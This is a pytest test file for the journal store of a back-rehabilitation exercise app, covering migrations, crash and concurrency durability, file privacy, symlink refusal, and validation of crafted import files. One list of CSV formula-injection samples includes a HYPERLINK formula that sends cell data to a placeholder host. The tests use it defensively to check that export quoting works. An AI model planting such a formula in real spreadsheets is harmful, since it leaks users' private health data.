"""The learner's journal: private, durable under crashes and concurrent writers, portable."""

from __future__ import annotations

import csv
import json
import os
import re
import shlex
import shutil
import signal
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from backcourse import cli
from backcourse.content.load import load_course
from backcourse.core.records import Assessment, Plan, Score, Screening, SessionLog
from backcourse.journal.store import (
    MIGRATIONS,
    SCHEMA_VERSION,
    ImportRefused,
    Journal,
    JournalError,
    journal_path,
    read_export_file,
)

COURSE = load_course()


def session(day: str = "2026-03-02", pain_after: int = 3, **extra: object) -> SessionLog:
    fields = dict(done_on=day, exercise="dead-hang", rung="dead-hang-1", sets=3, seconds=20,
                  pain_before=2, pain_after=pain_after)
    fields.update(extra)
    return SessionLog(**fields)  # type: ignore[arg-type]


def fill(journal: Journal) -> None:
    journal.add(Screening(taken_on="2026-03-01", outcome="clear"))
    journal.add(Assessment(taken_on="2026-03-01", test="side_bridge", side="left", value=61.5,
                           unit="s", note="wobbly at the end"))
    journal.add(Plan(created_on="2026-03-01", start_on="2026-03-02", weeks=8,
                     sessions_per_week=3, rungs=("dead-hang-1", "psoas-march-1")))
    for day in ("2026-03-02", "2026-03-04"):
        journal.add(session(day, pain_next_day=1, effort=6, note="fine"))


def test_records_round_trip_through_the_database() -> None:
    """What goes in comes out equal, with ids assigned, for every kind of record."""
    with Journal(":memory:") as journal:
        fill(journal)
        (plan,) = journal.all(Plan)
        assert plan.rungs == ("dead-hang-1", "psoas-march-1") and plan.id == 1
        assert [s.done_on for s in journal.sessions()] == ["2026-03-02", "2026-03-04"]
        assert [s.done_on for s in journal.sessions(since="2026-03-03")] == ["2026-03-04"]
        assert journal.latest_screening() == Screening(id=1, taken_on="2026-03-01",
                                                       outcome="clear")


@pytest.mark.parametrize("record, message", [
    (session(pain_after=11), "pain_after: must be at most 10 (got 11)"),
    (session(day="2026-02-30"), "done_on: '2026-02-30' is not a real date"),
    (session(seconds=None), "reps: give reps, seconds or both"),
    (Screening(taken_on="2026-03-01", outcome="emergency"), "flagged: a clear screen"),
])
def test_bad_records_are_refused_with_the_field_named(record: object, message: str) -> None:
    with Journal(":memory:") as journal:
        with pytest.raises(ValueError, match=re.escape(message)):
            journal.add(record)
        assert journal.count(type(record)) == 0


def test_the_state_changes_with_every_save_here_or_through_another_connection(
        tmp_path: Path) -> None:
    path = tmp_path / "me.sqlite3"
    with Journal(path) as app, Journal(path) as notebook:
        before = app.state
        app.sessions()
        assert app.state == before  # reading changes nothing
        app.add(Screening(taken_on="2026-03-01", outcome="clear"))
        mine = app.state
        assert mine != before
        notebook.add(Screening(taken_on="2026-03-02", outcome="clear"))
        assert app.state != mine


def test_the_file_is_private_in_wal_mode_at_the_current_version(tmp_path: Path) -> None:
    path = tmp_path / "home" / "me.sqlite3"
    with Journal(path) as journal:
        journal.add(session())
        assert journal.version == SCHEMA_VERSION
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    with sqlite3.connect(path) as db:
        assert db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"


def test_every_save_is_on_disk_before_it_returns(tmp_path: Path) -> None:
    """WAL with synchronous=FULL: a power cut or an OS crash right after a save loses
    nothing saved (NORMAL may roll back the last saves)."""
    with Journal(tmp_path / "me.sqlite3") as journal:
        assert journal._db.execute("PRAGMA synchronous").fetchone()[0] == 2  # FULL


def test_a_version_1_file_is_upgraded_and_keeps_its_entries(tmp_path: Path) -> None:
    """Forward migration: a v1 journal gains the later columns; old rows survive."""
    path = tmp_path / "old.sqlite3"
    with sqlite3.connect(path) as db:
        db.executescript(MIGRATIONS[0])
        db.execute("INSERT INTO sessions (done_on, exercise, rung, sets, reps, pain_before, "
                   "pain_after, note) VALUES ('2025-12-01', 'psoas-march', 'psoas-march-1', 3, 8,"
                   " 2, 2, 'from v1')")
        db.execute("INSERT INTO screenings (taken_on, outcome, flagged) VALUES ('2025-12-01', "
                   "'soon', '[\"S1\"]')")
        db.execute("PRAGMA user_version = 1")
    with Journal(path) as journal:
        assert journal.version == SCHEMA_VERSION == 4
        (old,) = journal.sessions()
        assert old.note == "from v1" and old.pain_next_day is None and old.effort is None
        assert old.pain_peak is None and old.highest_pain == 2
        screening = journal.latest_screening()
        assert screening is not None and screening.cleared is False
        assert not screening.allows_exercise
        journal.add(session(effort=5, pain_peak=6))
        assert (journal.sessions()[-1].effort, journal.sessions()[-1].pain_peak) == (5, 6)


def test_version_4_moves_the_daily_task_ratings_into_one_score_a_day(tmp_path: Path) -> None:
    """A v3 journal kept each PSFS task as an assessment; v4 keeps one score per day with
    each task's rating and name, in the order they were saved."""
    path = tmp_path / "v3.sqlite3"
    with sqlite3.connect(path) as db:
        for migration in MIGRATIONS[:3]:
            db.executescript(migration)
        for day, task, value in (("2026-01-05", "socks", 3), ("2026-01-05", "lifting", 5),
                                 ("2026-02-02", "socks", 6)):
            db.execute("INSERT INTO assessments (taken_on, test, side, value, unit, note) "
                       "VALUES (?, 'psfs', 'both', ?, 'points', ?)", (day, value, task))
        db.execute("INSERT INTO assessments (taken_on, test, side, value, unit) VALUES "
                   "('2026-01-05', 'pain_now', 'both', 4, 'points')")
        db.execute("PRAGMA user_version = 3")
    with Journal(path) as journal:
        assert journal.version == 4
        assert [a.test for a in journal.all(Assessment)] == ["pain_now"]
        assert [(s.taken_on, s.value, s.items, s.labels) for s in journal.all(Score)] == [
            ("2026-01-05", 4.0, (3.0, 5.0), ("socks", "lifting")),
            ("2026-02-02", 6.0, (6.0,), ("socks",))]


def test_an_export_from_version_3_imports_its_task_ratings_as_scores(tmp_path: Path) -> None:
    doc = {"format": "backcourse-journal", "schema_version": 3, "tables": {"assessments": [
        {"taken_on": "2026-01-05", "test": "psfs", "value": 4, "unit": "points", "note": "socks"},
        {"taken_on": "2026-01-05", "test": "psfs", "value": 6, "unit": "points", "note": "bags"},
        {"taken_on": "2026-01-05", "test": "pain_now", "value": 3, "unit": "points"}]}}
    (tmp_path / "old.json").write_text(json.dumps(doc), encoding="utf-8")
    with Journal(":memory:") as journal:
        assert journal.import_json(tmp_path / "old.json", load_course()) == 2
        (score,) = journal.all(Score)
        assert (score.measure, score.value, score.labels) == ("psfs", 5.0, ("socks", "bags"))


def test_a_score_for_an_unknown_measure_is_refused_on_import(tmp_path: Path) -> None:
    with Journal(":memory:") as journal:
        journal.add(Score(taken_on="2026-01-05", measure="shoe-size", value=44))
        journal.export_json(tmp_path / "x.json")
    with pytest.raises(ImportRefused, match="unknown measure 'shoe-size'"):
        read_export_file(tmp_path / "x.json", load_course())


def test_a_clinicians_clearance_is_stored_and_read_back_as_true(tmp_path: Path) -> None:
    with Journal(tmp_path / "me.sqlite3") as journal:
        journal.add(Screening(taken_on="2026-03-01", outcome="soon", flagged=("S11",),
                              cleared=True))
        saved = journal.latest_screening()
        assert saved is not None and saved.cleared is True and saved.allows_exercise
        with pytest.raises(ValueError, match="cleared: only a soon or same-day outcome"):
            journal.add(Screening(taken_on="2026-03-01", outcome="clear", cleared=True))


def test_a_journal_from_a_newer_backcourse_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "new.sqlite3"
    with sqlite3.connect(path) as db:
        db.execute("PRAGMA user_version = 99")
    with pytest.raises(JournalError, match="newer backcourse"):
        Journal(path)


WRITER = """
import sys
from backcourse.journal.store import Journal
from backcourse.core.records import SessionLog
with Journal(sys.argv[1]) as journal:
    for i in range(int(sys.argv[2])):
        new = journal.add(SessionLog(done_on="2026-03-02", exercise="big-three",
                                     rung="big-three-1", sets=3, reps=i % 50, pain_before=1,
                                     pain_after=2, note=sys.argv[3]))
        print(new, flush=True)
"""


def test_two_processes_writing_at_once_lose_nothing(tmp_path: Path) -> None:
    """Two writers x 1,000 transactions each: exactly 2,000 rows, 1,000 from each."""
    path = tmp_path / "shared.sqlite3"
    Journal(path).close()
    writers = [subprocess.Popen([sys.executable, "-c", WRITER, str(path), "1000", name],
                                stdout=subprocess.DEVNULL) for name in ("kernel-a", "kernel-b")]
    assert [w.wait(timeout=120) for w in writers] == [0, 0]
    with Journal(path) as journal:
        notes = [s.note for s in journal.sessions()]
        assert len(notes) == 2000
        assert notes.count("kernel-a") == notes.count("kernel-b") == 1000
        assert journal.integrity() == "ok"


@pytest.mark.parametrize("attempt", range(5))
def test_a_writer_killed_mid_write_leaves_every_committed_entry(
    tmp_path: Path, attempt: int
) -> None:
    """kill -9 during a stream of writes: the file is sound and holds every reported id."""
    path = tmp_path / "crash.sqlite3"
    writer = subprocess.Popen([sys.executable, "-c", WRITER, str(path), "100000", "x"],
                              stdout=subprocess.PIPE, text=True)
    assert writer.stdout is not None
    committed = [int(writer.stdout.readline()) for _ in range(200 + 150 * attempt)]
    os.kill(writer.pid, signal.SIGKILL)
    writer.wait()
    committed += [int(line) for line in writer.stdout.read().split()]
    with Journal(path) as journal:
        assert journal.integrity() == "ok"
        stored = {s.id for s in journal.sessions()}
    assert set(committed) <= stored


def test_export_delete_import_round_trip_is_equal(tmp_path: Path) -> None:
    path = tmp_path / "me.sqlite3"
    with Journal(path) as journal:
        fill(journal)
        before = journal.export_data()
        journal.export_json(tmp_path / "backup.json")
    assert cli.main(["journal", "delete", "--yes", "--home", str(tmp_path)]) == 0
    assert not path.exists()
    with Journal(path) as journal:
        assert journal.import_json(tmp_path / "backup.json", COURSE) == 5
        after = journal.export_data()
    before.pop("exported_at"), after.pop("exported_at")
    assert after == before


def test_csv_export_writes_one_file_per_table(tmp_path: Path) -> None:
    with Journal(":memory:") as journal:
        fill(journal)
        paths = journal.export_csv(tmp_path)
    assert sorted(p.name for p in paths) == ["assessments.csv", "measures.csv", "plans.csv",
                                            "screenings.csv", "sessions.csv"]
    with (tmp_path / "sessions.csv").open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["done_on"] for r in rows] == ["2026-03-02", "2026-03-04"]
    assert rows[0]["pain_next_day"] == "1"


def _export_doc(**tables: list) -> str:
    return json.dumps({"format": "backcourse-journal", "schema_version": 2, "tables": tables})


SESSION_ROW = {"done_on": "2026-03-02", "exercise": "dead-hang", "rung": "dead-hang-1",
               "sets": 3, "seconds": 20, "pain_before": 2, "pain_after": 3}


def _export(journal: Journal) -> dict:
    data = journal.export_data()
    data.pop("exported_at")
    return data


@pytest.mark.parametrize("content, message", [
    ("{not json", "cannot read"),
    ('{"format": "something-else"}', "not a backcourse journal export"),
    ('{"format": "backcourse-journal", "schema_version": 99, "tables": {}}',
     "a newer file needs a newer backcourse"),
    (_export_doc(sessions=[{**SESSION_ROW, "pain_after": 12}]),
     r"sessions\[#1\]: pain_after: must be at most 10 \(got 12\)"),
    (_export_doc(diary=[]), "tables: diary: unknown table"),
    (_export_doc(sessions=[{**SESSION_ROW, "rung": "nope"}]), "'dead-hang' has no level 'nope'"),
    (_export_doc(sessions=[{**SESSION_ROW, "exercise": "yoga"}]), "unknown exercise 'yoga'"),
    (_export_doc(sessions=[{**SESSION_ROW, "id": 1}, {**SESSION_ROW, "id": 1}]),
     "id 1 is used twice in sessions"),
    (_export_doc(assessments=[{"taken_on": "2026-03-02", "test": "side_bridge",
                               "value": float("nan"), "unit": "s"}]), "must be a number"),
    ('{"format": "backcourse-journal", "schema_version": true, "tables": {}}',
     "is not a journal version"),
    # crafted input: each is one clear problem, never a traceback
    (_export_doc(assessments=[{"taken_on": "2026-03-02", "test": "side_bridge", "side": "left",
                               "value": 10**400, "unit": "s"}]),
     r"assessments\[#1\]: value: 1000.*\(401 characters\) is too large"),
    (_export_doc(sessions=[{**SESSION_ROW, "sets": 10**400}]), r"sets: 1000.* is too large"),
    (_export_doc(sessions=[{**SESSION_ROW}]).replace('"sets": 3', '"sets": ' + "9" * 5000),
     "cannot read: it holds a number too long to read"),
    (_export_doc(sessions=[{**SESSION_ROW, "id": 2**70}]),
     r"sessions\[#1\]: id: 1180591620717411303424 is too large \(the limit is "
     r"±9,007,199,254,740,991\)"),
    (_export_doc(sessions=[{**SESSION_ROW, "note": "\ud800"}]),
     r"note: is not valid text \(a lone surrogate at character 1\)"),
    ("[" * 100_000, "cannot read: its lists or mappings are nested too deeply"),
    (_export_doc(sessions=[{**SESSION_ROW, "note": "x" * 10_001}]),
     "note: is 10,001 characters long; at most 10,000 are allowed"),
    (_export_doc(sessions=[{**SESSION_ROW, "id": 0}]), "id: must be at least 1"),
    # every name must be one the course knows
    (_export_doc(assessments=[{"taken_on": "2026-03-02", "test": "zzz", "value": 1,
                               "unit": "points"}]), r"assessments\[#1\]: test: unknown test 'zzz'"),
    (_export_doc(assessments=[{"taken_on": "2026-03-02", "test": "side_bridge", "value": 1,
                               "unit": "s"}]), "side: 'side_bridge' has no side 'both'"),
    (_export_doc(plans=[{"created_on": "2026-03-02", "start_on": "2026-03-02", "weeks": 8,
                         "sessions_per_week": 3, "rungs": ["dead-hang-1", "no-such-rung"]}]),
     r"plans\[#1\]: rungs\[1\]: unknown level 'no-such-rung'"),
    (_export_doc(screenings=[{"taken_on": "2026-03-02", "outcome": "soon",
                              "flagged": ["<b>X99</b>"]}]),
     r"screenings\[#1\]: flagged\[0\]: unknown warning sign '<b>X99</b>'"),
])
def test_a_refused_import_leaves_the_journal_unchanged(
    tmp_path: Path, content: str, message: str
) -> None:
    bad = tmp_path / "bad.json"
    bad.write_text(content, encoding="utf-8")
    with Journal(tmp_path / "me.sqlite3") as journal:
        fill(journal)
        before = _export(journal)
        with pytest.raises(ImportRefused, match=message):
            journal.import_json(bad, COURSE, replace=True)
        assert _export(journal) == before


def test_import_into_a_journal_with_entries_needs_replace(tmp_path: Path) -> None:
    with Journal(":memory:") as source:
        fill(source)
        source.export_json(tmp_path / "x.json")
    with Journal(tmp_path / "me.sqlite3") as journal:
        journal.add(session(day="2025-01-01"))
        with pytest.raises(JournalError, match="already has entries"):
            journal.import_json(tmp_path / "x.json", COURSE)
        assert journal.count(SessionLog) == 1
        journal.import_json(tmp_path / "x.json", COURSE, replace=True)
        assert [s.done_on for s in journal.sessions()] == ["2026-03-02", "2026-03-04"]


def test_journal_path_follows_override_then_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("BACKCOURSE_HOME", str(tmp_path / "env"))
    assert journal_path("alex") == tmp_path / "env" / "alex.sqlite3"
    assert journal_path("alex", tmp_path / "arg") == tmp_path / "arg" / "alex.sqlite3"
    with pytest.raises(JournalError, match="learner id"):
        journal_path("../x")


def test_cli_path_export_import_and_guarded_delete(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    home = ["--home", str(tmp_path)]
    assert cli.main(["journal", "path", *home]) == 0
    assert capsys.readouterr().out.strip() == str(tmp_path / "me.sqlite3")
    with Journal(tmp_path / "me.sqlite3") as journal:
        fill(journal)
    assert cli.main(["journal", "export", str(tmp_path / "out.json"), "--csv",
                     str(tmp_path / "csv"), *home]) == 0
    assert (tmp_path / "csv" / "plans.csv").is_file()
    assert cli.main(["journal", "import", str(tmp_path / "out.json"), *home]) == 2
    assert "already has entries" in capsys.readouterr().err
    assert cli.main(["journal", "import", str(tmp_path / "out.json"), "--replace", *home]) == 0
    assert cli.main(["journal", "import", str(tmp_path / "nope.json"), *home]) == 2
    result = subprocess.run([sys.executable, "-m", "backcourse", "journal", "delete", *home],
                            stdin=subprocess.DEVNULL, capture_output=True, text=True)
    assert result.returncode == 1 and "add --yes" in result.stderr
    assert (tmp_path / "me.sqlite3").exists()


def test_morning_pain_never_lands_on_an_older_session() -> None:
    """After a gap, the morning rating goes to the last session day or nowhere."""
    with Journal(":memory:") as journal:
        journal.add(session("2026-01-01"))
        journal.add(session("2026-01-20", pain_next_day=2))
        assert journal.record_next_day(9, "2026-01-21") is None
        assert [s.pain_next_day for s in journal.sessions()] == [None, 2]
        with pytest.raises(ValueError, match="whole number"):
            journal.record_next_day(5.5, "2026-01-21")  # type: ignore[arg-type]


def test_the_latest_screening_is_the_last_one_entered() -> None:
    with Journal(":memory:") as journal:
        journal.add(Screening(taken_on="2099-01-01", outcome="clear"))
        journal.add(Screening(taken_on="2026-03-01", outcome="emergency", flagged=("E1",)))
        latest = journal.latest_screening()
        assert latest is not None and latest.outcome == "emergency"


def test_export_never_overwrites_the_journal_and_is_private(tmp_path: Path) -> None:
    path = tmp_path / "me.sqlite3"
    with Journal(path) as journal:
        fill(journal)
        with pytest.raises(JournalError, match="is the journal itself"):
            journal.export_json(path)
        loose = tmp_path / "out.json"
        loose.write_text("old")
        loose.chmod(0o644)
        journal.export_json(loose)
        assert stat.S_IMODE(loose.stat().st_mode) == 0o600
        assert journal.count(SessionLog) == 2


def test_cli_reports_journal_problems_without_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    home = ["--home", str(tmp_path)]
    assert cli.main(["journal", "export", str(tmp_path / "x.json"), *home]) == 2
    assert "no journal at" in capsys.readouterr().err
    (tmp_path / "me.sqlite3").write_bytes(b"this is not a database" * 100)
    assert cli.main(["journal", "export", str(tmp_path / "x.json"), *home]) == 2
    assert (f"backcourse journal export: cannot open the journal at {tmp_path / 'me.sqlite3'}: "
            "file is not a database") in capsys.readouterr().err


def test_a_dangling_link_is_refused_not_followed(tmp_path: Path) -> None:
    """A link planted where the journal goes would have SQLite create the file elsewhere,
    readable by others."""
    planted = tmp_path / "elsewhere" / "stolen.sqlite3"
    planted.parent.mkdir()
    home = tmp_path / "home"
    home.mkdir(mode=0o700)
    (home / "me.sqlite3").symlink_to(planted)
    with pytest.raises(JournalError, match="is a symbolic link"):
        Journal(home / "me.sqlite3")
    assert not planted.exists()


def test_a_linked_journal_folder_is_refused(tmp_path: Path) -> None:
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "link").symlink_to(real)
    with pytest.raises(JournalError, match="link is a symbolic link"):
        Journal(tmp_path / "link" / "me.sqlite3")
    assert list(real.iterdir()) == []


def test_loose_modes_are_tightened_on_open_and_said_once(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    home = tmp_path / "home"
    path = home / "me.sqlite3"
    with Journal(path) as journal:
        journal.add(session())
    home.chmod(0o755)
    path.chmod(0o644)
    with Journal(path) as journal:
        journal.add(session())
    said = capsys.readouterr().err.splitlines()
    assert said == [f"backcourse: made {home} private to you (it was 755, open to others; "
                    "now 700)",
                    f"backcourse: made {path} private to you (it was 644, open to others; "
                    "now 600)"]
    assert stat.S_IMODE(home.stat().st_mode) == 0o700
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    Journal(path).close()
    assert capsys.readouterr().err == ""


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0,
                    reason="giving a file to another user needs root")
def test_a_journal_someone_else_owns_is_refused_and_left_alone(tmp_path: Path) -> None:
    path = tmp_path / "me.sqlite3"
    Journal(path).close()
    path.chmod(0o644)
    os.chown(path, 65534, 65534)
    with pytest.raises(JournalError, match="me.sqlite3 belongs to another user"):
        Journal(path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o644


def test_a_shared_folder_is_never_made_private(tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    with pytest.raises(JournalError, match="shared by all users"):
        Journal(shared / "me.sqlite3")
    assert stat.S_IMODE(shared.stat().st_mode) == 0o1777


def test_folders_made_by_an_export_are_private(tmp_path: Path) -> None:
    with Journal(tmp_path / "me.sqlite3") as journal:
        fill(journal)
    assert cli.main(["journal", "export", str(tmp_path / "new" / "deep" / "x.json"), "--csv",
                     str(tmp_path / "tables" / "csv"), "--home", str(tmp_path)]) == 0
    for folder in ("new", "new/deep", "tables", "tables/csv"):
        assert stat.S_IMODE((tmp_path / folder).stat().st_mode) == 0o700, folder
    for written in [tmp_path / "new" / "deep" / "x.json", *(tmp_path / "tables" / "csv").iterdir()]:
        assert stat.S_IMODE(written.stat().st_mode) == 0o600, written


FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1", "\r=1"]


def test_csv_cells_that_look_like_formulas_are_quoted_and_the_json_stays_exact(
    tmp_path: Path
) -> None:
    with Journal(":memory:") as journal:
        for note in [*FORMULAS, "fine - no formula", "a=b"]:
            journal.add(session(note=note))
        journal.export_csv(tmp_path)
        journal.export_json(tmp_path / "all.json")
    with (tmp_path / "sessions.csv").open(encoding="utf-8", newline="") as handle:
        notes = [r["note"] for r in csv.DictReader(handle)]
    assert notes == [f"'{n}" for n in FORMULAS] + ["fine - no formula", "a=b"]
    exported = json.loads((tmp_path / "all.json").read_text(encoding="utf-8"))
    assert [r["note"] for r in exported["tables"]["sessions"]] == [
        *FORMULAS, "fine - no formula", "a=b"]


def test_names_are_checked_against_the_course_passed_in(tmp_path: Path) -> None:
    """The journal loads no course of its own: a course without a warning sign refuses an
    export that names it."""
    import dataclasses

    first, second, *_ = COURSE.red_flags
    doc = tmp_path / "x.json"
    doc.write_text(_export_doc(screenings=[{"taken_on": "2026-03-02", "outcome": "soon",
                                            "flagged": [second.id]}]), encoding="utf-8")
    fewer = dataclasses.replace(COURSE, red_flags=(first,))
    with Journal(":memory:") as journal:
        with pytest.raises(ImportRefused, match=f"unknown warning sign {second.id!r}"):
            journal.import_json(doc, fewer)
        assert journal.import_json(doc, COURSE) == 1


def test_an_export_naming_a_retired_warning_sign_still_imports(tmp_path: Path) -> None:
    """A question the course no longer asks in that form stays readable in old journals."""
    doc = tmp_path / "old.json"
    doc.write_text(_export_doc(screenings=[{"taken_on": "2025-11-02", "outcome": "same day",
                                            "flagged": ["E8"]}]), encoding="utf-8")
    assert "E8" in {r.id for r in COURSE.retired_flags}
    with Journal(":memory:") as journal:
        assert journal.import_json(doc, COURSE) == 1
        saved = journal.latest_screening()
        assert saved is not None and saved.flagged == ("E8",)


def _export_file(tmp_path: Path) -> Path:
    with Journal(":memory:") as journal:
        fill(journal)
        return journal.export_json(tmp_path / "valid.json")


def test_import_says_what_a_file_that_is_not_an_export_is(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A folder or a named pipe is named as such (never "does not exist", never a wait on
    the pipe), and the journal is not even created."""
    os.mkfifo(tmp_path / "pipe.json")
    (tmp_path / "folder.json").mkdir()
    (tmp_path / "latin1.json").write_bytes(b'{"note": "caf\xe9"}')
    with (tmp_path / "huge.json").open("wb") as handle:
        handle.truncate(65 * 2**20)
    home = tmp_path / "home"
    for name, said in [("pipe.json", "is a named pipe (FIFO), not a file"),
                       ("folder.json", "is a folder, not a file"),
                       ("nowhere.json", "does not exist"),
                       ("latin1.json", "is not UTF-8 text (byte 14 cannot be read)"),
                       ("huge.json", "is larger than 64 MB; that is not a file backcourse "
                                     "expects here")]:
        assert cli.main(["journal", "import", str(tmp_path / name), "--home", str(home)]) == 2
        assert capsys.readouterr().err == f"backcourse journal import: {tmp_path / name} {said}\n"
    assert not home.exists()


def test_a_journal_that_is_a_folder_is_named(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "me.sqlite3").mkdir()
    said = f"{tmp_path / 'me.sqlite3'} is a folder, not a journal file"
    assert cli.main(["journal", "export", str(tmp_path / "x.json"), "--home", str(tmp_path)]) == 2
    assert capsys.readouterr().err == f"backcourse journal export: {said}\n"
    valid = _export_file(tmp_path)
    assert cli.main(["journal", "import", str(valid), "--home", str(tmp_path)]) == 2
    assert capsys.readouterr().err == f"backcourse journal import: {said}\n"
    with pytest.raises(JournalError, match=re.escape(said)):
        Journal(tmp_path / "me.sqlite3")


def test_a_long_learner_id_is_named_not_echoed_whole(capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["journal", "path", "--learner", "x" * 5_000]) == 2
    err = capsys.readouterr().err
    assert err == (f"backcourse journal path: learner id '{'x' * 59}… (5,002 characters) must be "
                   "1-64 letters, digits, '-' or '_'\n")


def _unshare_works() -> bool:
    if shutil.which("unshare") is None:
        return False
    return subprocess.run(["unshare", "-rm", "true"], capture_output=True).returncode == 0


@pytest.mark.skipif(not _unshare_works(), reason="needs a mount namespace (unshare -rm)")
def test_export_reads_a_journal_on_read_only_media_and_a_write_names_the_path(
    tmp_path: Path
) -> None:
    """The journal's folder is mounted read-only in a private mount namespace, as a
    write-protected memory stick would be."""
    media = tmp_path / "stick"
    with Journal(media / "me.sqlite3") as journal:
        fill(journal)
    (media / "me.sqlite3").chmod(0o644)  # cannot be tightened there: SQLite's refusal is shown
    valid = _export_file(tmp_path)
    backcourse = f"{shlex.quote(sys.executable)} -m backcourse journal"
    at, out, valid_ = (shlex.quote(str(p)) for p in (media, tmp_path / "out.json", valid))
    script = (f"mount --bind {at} {at} && mount -o remount,bind,ro {at} && "
              f"{backcourse} export {out} --home {at}; echo rc=$?; "
              f"{backcourse} import {valid_} --replace --home {at}; echo rc=$?")
    result = subprocess.run(["unshare", "-rm", "sh", "-c", script], capture_output=True,
                            text=True, timeout=60)
    said = result.stdout + result.stderr
    assert "Traceback" not in said
    assert f"Wrote {tmp_path / 'out.json'}\nrc=0\n" in result.stdout
    assert result.stdout.endswith("rc=2\n")
    assert (f"backcourse journal import: cannot open the journal at {media / 'me.sqlite3'}"
            in result.stderr and "it is on read-only media" in result.stderr)
    exported = json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))
    assert len(exported["tables"]["sessions"]) == 2


def test_add_all_saves_every_record_or_none() -> None:
    """A form's answers are saved together: one refused record saves none of them."""
    with Journal(":memory:") as journal:
        good = Score(taken_on="2026-03-02", measure="pain", value=4)
        with pytest.raises(ValueError, match="outcome"):
            journal.add_all([good, Screening(taken_on="2026-03-02", outcome="bogus")])  # type: ignore[arg-type]
        assert journal.all(Score) == [] and journal.latest_screening() is None
        journal.add_all([good, good])
        assert len(journal.all(Score)) == 2
